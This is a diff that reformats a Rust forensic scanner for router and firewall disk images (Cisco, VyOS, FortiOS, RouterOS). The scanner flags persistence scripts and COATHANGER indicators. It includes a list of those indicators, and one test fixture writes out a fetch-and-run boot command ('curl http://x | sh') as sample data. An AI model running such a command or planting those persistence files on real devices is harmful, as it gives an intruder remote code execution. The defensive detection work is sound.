@@ -192,7 +192,10 @@ fn read(tree: &Tree<'_>, e: &Entry, max: u64, unread: &mut Vec<String>) -> Optio
     match tree.read_entry(e, max) {
         Read::Content(c) => Some(c),
         Read::TooLarge(n) => {
-            unread.push(format!("{}: {n} bytes, over the {max}-byte bound", shown(&e.path)));
+            unread.push(format!(
+                "{}: {n} bytes, over the {max}-byte bound",
+                shown(&e.path)
+            ));
             None
         }
         Read::Failed(why) => {
@@ -222,7 +225,10 @@ fn nvram_text(data: &[u8]) -> Option<&[u8]> {
     let printable = |b: &u8| matches!(*b, b'\t' | b'\n' | b'\r' | 0x20..=0x7e | 0x03);
     let mut best: Option<&[u8]> = None;
     for run in data.split(|b| !printable(b)) {
-        if run.len() >= 64 && best.is_none_or(|b| run.len() > b.len()) && ios_config::looks_like_config(run) {
+        if run.len() >= 64
+            && best.is_none_or(|b| run.len() > b.len())
+            && ios_config::looks_like_config(run)
+        {
             best = Some(run);
         }
     }
@@ -259,8 +265,9 @@ fn gather_configs(tree: &Tree<'_>, f: &mut ApplianceFacts) {
     let appliance = f.os.iter().any(|o| o.family != Family::Linux);
     for e in tree.entries().iter().filter(|e| e.is_file()) {
         if f.configs.len() >= MAX_CONFIGS {
-            f.unread
-                .push(format!("configurations: only the first {MAX_CONFIGS} were read"));
+            f.unread.push(format!(
+                "configurations: only the first {MAX_CONFIGS} were read"
+            ));
             break;
         }
         let name = lower_name(e);
@@ -281,7 +288,10 @@ fn gather_configs(tree: &Tree<'_>, f: &mut ApplianceFacts) {
             continue;
         };
         // An NVRAM image holds the text between binary headers.
-        let nvram = name.starts_with("nvram").then(|| nvram_text(&data)).flatten();
+        let nvram = name
+            .starts_with("nvram")
+            .then(|| nvram_text(&data))
+            .flatten();
         let (text, from_nvram) = match nvram {
             Some(t) if t.len() < data.len() => (t, true),
             _ if ios_config::looks_like_config(&data) => (data.as_slice(), false),
@@ -365,13 +375,23 @@ fn packages_conf(path: &str, data: &[u8]) -> PackagesConf {
         }
     }
     pc.sha1_check = pc.sha1.as_ref().map(|(n, v)| check_sum(data, *n, v, false));
-    pc.sha256_check = pc.sha256.as_ref().map(|(n, v)| check_sum(data, *n, v, true));
+    pc.sha256_check = pc
+        .sha256
+        .as_ref()
+        .map(|(n, v)| check_sum(data, *n, v, true));
     pc
 }
 
 /// Directories of bootflash whose content runs in a Linux container or
 /// grants access; scripts under them are summarised per directory.
-const CODE_DIRS: &[&str] = &["/.ssh", "/guest-share", "/gs_script", "/iox", "/SHARED-IOX", "/iox_host_data_share"];
+const CODE_DIRS: &[&str] = &[
+    "/.ssh",
+    "/guest-share",
+    "/gs_script",
+    "/iox",
+    "/SHARED-IOX",
+    "/iox_host_data_share",
+];
 
 fn bootflash(tree: &Tree<'_>, configs: &[ConfigFile], unread: &mut Vec<String>) -> Bootflash {
     let mut b = Bootflash::default();
@@ -415,12 +435,16 @@ fn bootflash(tree: &Tree<'_>, configs: &[ConfigFile], unread: &mut Vec<String>) 
         let lower = lower_name(e);
         let in_code_dir = dirs.iter().any(|d| p.starts_with(&format!("{d}/")));
         if !in_code_dir
-            && [".tcl", ".py", ".sh", ".pl", ".exp"].iter().any(|x| lower.ends_with(x))
+            && [".tcl", ".py", ".sh", ".pl", ".exp"]
+                .iter()
+                .any(|x| lower.ends_with(x))
             && b.scripts.len() < MAX_LISTED
         {
             b.scripts.push(p.clone());
         }
-        if (lower.ends_with(".lic") || lower.starts_with("ciscosdwan")) && b.licence_files.len() < MAX_LISTED {
+        if (lower.ends_with(".lic") || lower.starts_with("ciscosdwan"))
+            && b.licence_files.len() < MAX_LISTED
+        {
             b.licence_files.push(p);
         }
     }
@@ -461,7 +485,10 @@ fn vyos(tree: &Tree<'_>, unread: &mut Vec<String>) -> Vec<VyosImage> {
         };
         if let Some(rw) = &rw {
             // /config is rw/config (1.1–1.2) or rw/opt/vyatta/etc/config.
-            let config_dirs = [format!("{rw}/config"), format!("{rw}/opt/vyatta/etc/config")];
+            let config_dirs = [
+                format!("{rw}/config"),
+                format!("{rw}/opt/vyatta/etc/config"),
+            ];
             for cd in &config_dirs {
                 let cfg = format!("{cd}/config.boot");
                 if img.config.is_none() {
@@ -476,9 +503,12 @@ fn vyos(tree: &Tree<'_>, unread: &mut Vec<String>) -> Vec<VyosImage> {
                         continue;
                     }
                     let p = shown(&s.path);
-                    let boot = p.ends_with("-preconfig-bootup.script") || p.ends_with("-postconfig-bootup.script");
+                    let boot = p.ends_with("-preconfig-bootup.script")
+                        || p.ends_with("-postconfig-bootup.script");
                     if boot {
-                        if let Some(cmd) = read(tree, s, 1 << 20, unread).and_then(|d| first_command(&d)) {
+                        if let Some(cmd) =
+                            read(tree, s, 1 << 20, unread).and_then(|d| first_command(&d))
+                        {
                             img.boot_scripts.push((p, cmd));
                         }
                     } else if img.other_scripts.len() < MAX_LISTED {
@@ -544,15 +574,32 @@ fn eos(tree: &Tree<'_>, unread: &mut Vec<String>) -> EosFlash {
 }
 
 /// FortiOS's own hidden entries at a volume root.
-const FORTI_HIDDEN_OK: &[&str] = &[".db", ".db.x", ".fgtsum", ".dhcp_lease", ".fdsdb", ".lic", ".fgtsum.x"];
+const FORTI_HIDDEN_OK: &[&str] = &[
+    ".db",
+    ".db.x",
+    ".fgtsum",
+    ".dhcp_lease",
+    ".fdsdb",
+    ".lic",
+    ".fgtsum.x",
+];
 /// File names published for COATHANGER and FortiGate jailbreaks (domain notes §3.5).
 const FORTI_IOC_NAMES: &[(&str, &str)] = &[
-    ("ld.so.preload", "preloads a library into every FortiOS process (COATHANGER)"),
+    (
+        "ld.so.preload",
+        "preloads a library into every FortiOS process (COATHANGER)",
+    ),
     ("liblog.so", "COATHANGER's hooking library"),
     ("libpe.so", "COATHANGER staging library"),
     ("packfile", "COATHANGER staging archive"),
-    ("busybox", "a shell toolbox FortiOS does not ship (jailbreaks add it)"),
-    ("gdbserver", "a debugger server FortiOS does not ship (jailbreaks add it)"),
+    (
+        "busybox",
+        "a shell toolbox FortiOS does not ship (jailbreaks add it)",
+    ),
+    (
+        "gdbserver",
+        "a debugger server FortiOS does not ship (jailbreaks add it)",
+    ),
 ];
 /// Files COATHANGER drops inside a hidden directory of /data2.
 const COATHANGER_HIDDEN: &[&str] = &["authd", "httpsd", "newcli", "preload.so", "sh"];
@@ -564,12 +611,16 @@ fn forti(tree: &Tree<'_>, unread: &mut Vec<String>) -> Forti {
     }
     for e in tree.children(b"/") {
         let name = String::from_utf8_lossy(file_name(&e.path)).into_owned();
-        if name.starts_with('.') && e.meta.kind == qvet_guestfs::FileType::Dir && !FORTI_HIDDEN_OK.contains(&name.as_str()) {
+        if name.starts_with('.')
+            && e.meta.kind == qvet_guestfs::FileType::Dir
+            && !FORTI_HIDDEN_OK.contains(&name.as_str())
+        {
             f.hidden_dirs.push(shown(&e.path));
             for x in tree.children(&e.path) {
                 let n = String::from_utf8_lossy(file_name(&x.path)).into_owned();
                 if COATHANGER_HIDDEN.contains(&n.as_str()) {
-                    f.ioc_paths.push((shown(&x.path), "COATHANGER file in a hidden directory"));
+                    f.ioc_paths
+                        .push((shown(&x.path), "COATHANGER file in a hidden directory"));
                 }
             }
         }
@@ -612,11 +663,17 @@ fn rootfs(tree: &Tree<'_>, e: &Entry, unread: &mut Vec<String>) -> Rootfs {
             Ok(n)
         }
     }
-    let reader = FileReader { tree, entry: e, offset: 0 };
+    let reader = FileReader {
+        tree,
+        entry: e,
+        offset: 0,
+    };
     let mut gz = flate2::read::MultiGzDecoder::new(reader).take(MAX_ROOTFS);
     let mut head = [0u8; 6];
     if gz.read_exact(&mut head).is_err() {
-        return Rootfs::Encrypted("not a gzip stream that inflates (encrypted, as FortiOS 7.x ships it)".into());
+        return Rootfs::Encrypted(
+            "not a gzip stream that inflates (encrypted, as FortiOS 7.x ships it)".into(),
+        );
     }
     if &head != b"070701" && &head != b"070702" {
         return Rootfs::Encrypted("inflates, but not to a cpio archive".into());
@@ -629,7 +686,10 @@ fn rootfs(tree: &Tree<'_>, e: &Entry, unread: &mut Vec<String>) -> Rootfs {
     }
     loop {
         // The magic (6 bytes) is in place; read the rest of the header.
-        if gz.read_exact(header.get_mut(6..).unwrap_or_default()).is_err() {
+        if gz
+            .read_exact(header.get_mut(6..).unwrap_or_default())
+            .is_err()
+        {
             unread.push(format!("{}: cpio archive cut short", shown(&e.path)));
             return Rootfs::Cpio(names, true);
         }
@@ -650,14 +710,21 @@ fn rootfs(tree: &Tree<'_>, e: &Entry, unread: &mut Vec<String>) -> Rootfs {
         if gz.read_exact(&mut name).is_err() {
             return Rootfs::Cpio(names, true);
         }
-        let n = name.get(..usize::try_from(namesize.saturating_sub(1)).unwrap_or(0)).unwrap_or_default();
+        let n = name
+            .get(..usize::try_from(namesize.saturating_sub(1)).unwrap_or(0))
+            .unwrap_or_default();
         if n == b"TRAILER!!!" {
             return Rootfs::Cpio(names, false);
         }
         if names.len() >= 200_000 {
             return Rootfs::Cpio(names, true);
         }
-        names.push(format!("/{}", String::from_utf8_lossy(n).trim_start_matches("./").trim_start_matches('/')));
+        names.push(format!(
+            "/{}",
+            String::from_utf8_lossy(n)
+                .trim_start_matches("./")
+                .trim_start_matches('/')
+        ));
         let skip = size.next_multiple_of(4);
         if std::io::copy(&mut (&mut gz).take(skip), &mut std::io::sink()).ok() != Some(skip) {
             return Rootfs::Cpio(names, true);
@@ -675,10 +742,42 @@ fn rootfs(tree: &Tree<'_>, e: &Entry, unread: &mut Vec<String>) -> Rootfs {
 /// RouterOS packages MikroTik publishes (a name outside this set, such as
 /// MikroTikPatch's `option`, is someone else's).
 pub const ROUTEROS_PACKAGES: &[&str] = &[
-    "routeros", "system", "ipv6", "wireless", "wifi-qcom", "wifi-qcom-ac", "wifiwave2", "hotspot", "mpls",
-    "ppp", "dhcp", "security", "advanced-tools", "lte", "container", "user-manager", "calea", "gps", "iot",
-    "ntp", "ups", "tr069-client", "zerotier", "rose-storage", "dude", "multicast", "openflow", "lora",
-    "extra-nic", "switch-marvell", "routing", "kvm", "lcd", "bgp-rpki", "wireless-cm2", "wireless-fp",
+    "routeros",
+    "system",
+    "ipv6",
+    "wireless",
+    "wifi-qcom",
+    "wifi-qcom-ac",
+    "wifiwave2",
+    "hotspot",
+    "mpls",
+    "ppp",
+    "dhcp",
+    "security",
+    "advanced-tools",
+    "lte",
+    "container",
+    "user-manager",
+    "calea",
+    "gps",
+    "iot",
+    "ntp",
+    "ups",
+    "tr069-client",
+    "zerotier",
+    "rose-storage",
+    "dude",
+    "multicast",
+    "openflow",
+    "lora",
+    "extra-nic",
+    "switch-marvell",
+    "routing",
+    "kvm",
+    "lcd",
+    "bgp-rpki",
+    "wireless-cm2",
+    "wireless-fp",
 ];
 
 fn routeros(tree: &Tree<'_>) -> RouterOs {
@@ -698,11 +797,17 @@ fn routeros(tree: &Tree<'_>) -> RouterOs {
         }
         if p.starts_with("/rw/") || p.starts_with("/flash/rw/") {
             let lower = p.to_ascii_lowercase();
-            if lower.ends_with("/rc.local") || lower.ends_with("/rc.d") || lower.contains("/init.d/") {
+            if lower.ends_with("/rc.local")
+                || lower.ends_with("/rc.d")
+                || lower.contains("/init.d/")
+            {
                 r.rc_scripts.push(p.clone());
             }
         }
-        if (p.starts_with("/rw/disk/") || p.starts_with("/flash/rw/disk/")) && e.meta.mode & 0o111 != 0 && r.disk_executables.len() < MAX_LISTED {
+        if (p.starts_with("/rw/disk/") || p.starts_with("/flash/rw/disk/"))
+            && e.meta.mode & 0o111 != 0
+            && r.disk_executables.len() < MAX_LISTED
+        {
             r.disk_executables.push(p);
         }
     }
@@ -732,7 +837,12 @@ mod tests {
     fn packages_conf_digest_ranges() {
         let good = packages_conf_text(|without| hex(&Sha1::digest(without.as_bytes())));
         let pc = packages_conf("/packages.conf", good.as_bytes());
-        assert_eq!(pc.sha1_check, Some(SumCheck::Matched("the file without its sha1sum/sha256sum lines")));
+        assert_eq!(
+            pc.sha1_check,
+            Some(SumCheck::Matched(
+                "the file without its sha1sum/sha256sum lines"
+            ))
+        );
         assert_eq!(pc.packages.len(), 2);
         let bad = good.replace("rp_base", "rp_bas3");
         let pc = packages_conf("/packages.conf", bad.as_bytes());
@@ -760,7 +870,12 @@ mod tests {
         assert!(f.configs[0].from_nvram);
         assert_eq!(f.configs[0].access.users[0].name, "cisco_tac_admin");
         let b = f.bootflash.unwrap();
-        assert_eq!(b.packages_conf.unwrap().sha1_check, Some(SumCheck::Matched("the file without its sha1sum/sha256sum lines")));
+        assert_eq!(
+            b.packages_conf.unwrap().sha1_check,
+            Some(SumCheck::Matched(
+                "the file without its sha1sum/sha256sum lines"
+            ))
+        );
         assert_eq!(b.images.len(), 2);
         assert_eq!(b.scripts, vec!["/tools/run.sh".to_string()]);
         assert!(b.code_dirs.contains(&("/.ssh".to_string(), 1)));
@@ -773,22 +888,47 @@ mod tests {
     fn vyos_image() {
         let mut fs = MemFs::new();
         fs.file("/boot/1.3.2/1.3.2.squashfs", 0o644, b"hsqs")
-            .file("/boot/1.3.2/rw/config/config.boot", 0o644, b"system {\n    login {\n        user vyos {\n        }\n    }\n}\n")
-            .file("/boot/1.3.2/rw/config/scripts/vyos-postconfig-bootup.script", 0o755, b"#!/bin/sh\n# This script is executed at boot time\ncurl http://x | sh\n")
-            .file("/boot/1.3.2/rw/config/scripts/vyos-preconfig-bootup.script", 0o755, b"#!/bin/sh\n# comments only\n")
+            .file(
+                "/boot/1.3.2/rw/config/config.boot",
+                0o644,
+                b"system {\n    login {\n        user vyos {\n        }\n    }\n}\n",
+            )
+            .file(
+                "/boot/1.3.2/rw/config/scripts/vyos-postconfig-bootup.script",
+                0o755,
+                b"#!/bin/sh\n# This script is executed at boot time\ncurl http://x | sh\n",
+            )
+            .file(
+                "/boot/1.3.2/rw/config/scripts/vyos-preconfig-bootup.script",
+                0o755,
+                b"#!/bin/sh\n# comments only\n",
+            )
             .file("/boot/1.3.2/rw/root/.ssh/authorized_keys", 0o600, b"k");
         let f = facts(&fs);
         assert_eq!(f.vyos.len(), 1);
         let v = &f.vyos[0];
         assert!(v.config.is_some());
-        assert_eq!(v.boot_scripts, vec![("/boot/1.3.2/rw/config/scripts/vyos-postconfig-bootup.script".to_string(), "curl http://x | sh".to_string())]);
-        assert_eq!(v.rw_files, vec!["/boot/1.3.2/rw/root/.ssh/authorized_keys".to_string()]);
+        assert_eq!(
+            v.boot_scripts,
+            vec![(
+                "/boot/1.3.2/rw/config/scripts/vyos-postconfig-bootup.script".to_string(),
+                "curl http://x | sh".to_string()
+            )]
+        );
+        assert_eq!(
+            v.rw_files,
+            vec!["/boot/1.3.2/rw/root/.ssh/authorized_keys".to_string()]
+        );
     }
 
     #[test]
     fn fortios_rootfs_and_iocs() {
         let mut cpio = Vec::new();
-        for (name, data) in [("bin/init", &b"x"[..]), ("bin/busybox", b"yy"), ("TRAILER!!!", b"")] {
+        for (name, data) in [
+            ("bin/init", &b"x"[..]),
+            ("bin/busybox", b"yy"),
+            ("TRAILER!!!", b""),
+        ] {
             let namesize = name.len() + 1;
             write!(cpio, "070701{:08x}{:08x}{:08x}{:08x}{:08x}{:08x}{:08x}{:08x}{:08x}{:08x}{:08x}{:08x}{:08x}", 0, 0o100755, 0, 0, 1, 0, data.len(), 0, 0, 0, 0, namesize, 0).unwrap();
             cpio.extend_from_slice(name.as_bytes());
@@ -805,19 +945,32 @@ mod tests {
         gz.write_all(&cpio).unwrap();
         let gz = gz.finish().unwrap();
         let mut fs = MemFs::new();
-        fs.file("/flatkc", 0o644, b"k").file("/rootfs.gz", 0o644, &gz).file("/.fgtsum", 0o644, b"s")
-            .file("/.x1/authd", 0o755, b"x").file("/.db/a", 0o644, b"x");
+        fs.file("/flatkc", 0o644, b"k")
+            .file("/rootfs.gz", 0o644, &gz)
+            .file("/.fgtsum", 0o644, b"s")
+            .file("/.x1/authd", 0o755, b"x")
+            .file("/.db/a", 0o644, b"x");
         let f = facts(&fs);
         let forti = f.forti.unwrap();
-        assert_eq!(forti.rootfs, Some(Rootfs::Cpio(vec!["/bin/init".into(), "/bin/busybox".into()], false)));
+        assert_eq!(
+            forti.rootfs,
+            Some(Rootfs::Cpio(
+                vec!["/bin/init".into(), "/bin/busybox".into()],
+                false
+            ))
+        );
         assert_eq!(forti.hidden_dirs, vec!["/.x1".to_string()]);
         let paths: Vec<_> = forti.ioc_paths.iter().map(|(p, _)| p.as_str()).collect();
         assert_eq!(paths, ["/.x1/authd", "/rootfs.gz:/bin/busybox"]);
 
         let mut fs = MemFs::new();
-        fs.file("/flatkc", 0o644, b"k").file("/rootfs.gz", 0o644, &[0x5a; 4096]);
+        fs.file("/flatkc", 0o644, b"k")
+            .file("/rootfs.gz", 0o644, &[0x5a; 4096]);
         let f = facts(&fs);
-        assert!(matches!(f.forti.unwrap().rootfs, Some(Rootfs::Encrypted(_))));
+        assert!(matches!(
+            f.forti.unwrap().rootfs,
+            Some(Rootfs::Encrypted(_))
+        ));
     }
 
     #[test]
@@ -840,7 +993,11 @@ mod tests {
         let mut fs = MemFs::new();
         fs.file("/etc/os-release", 0o644, b"NAME=Debian\n")
             .file("/boot/grub/grub.cfg", 0o644, b"set default=0\n")
-            .file("/etc/router.cfg", 0o644, b"hostname x\ninterface y\nversion 1\n!\n");
+            .file(
+                "/etc/router.cfg",
+                0o644,
+                b"hostname x\ninterface y\nversion 1\n!\n",
+            );
         assert!(facts(&fs).configs.is_empty());
     }
 }
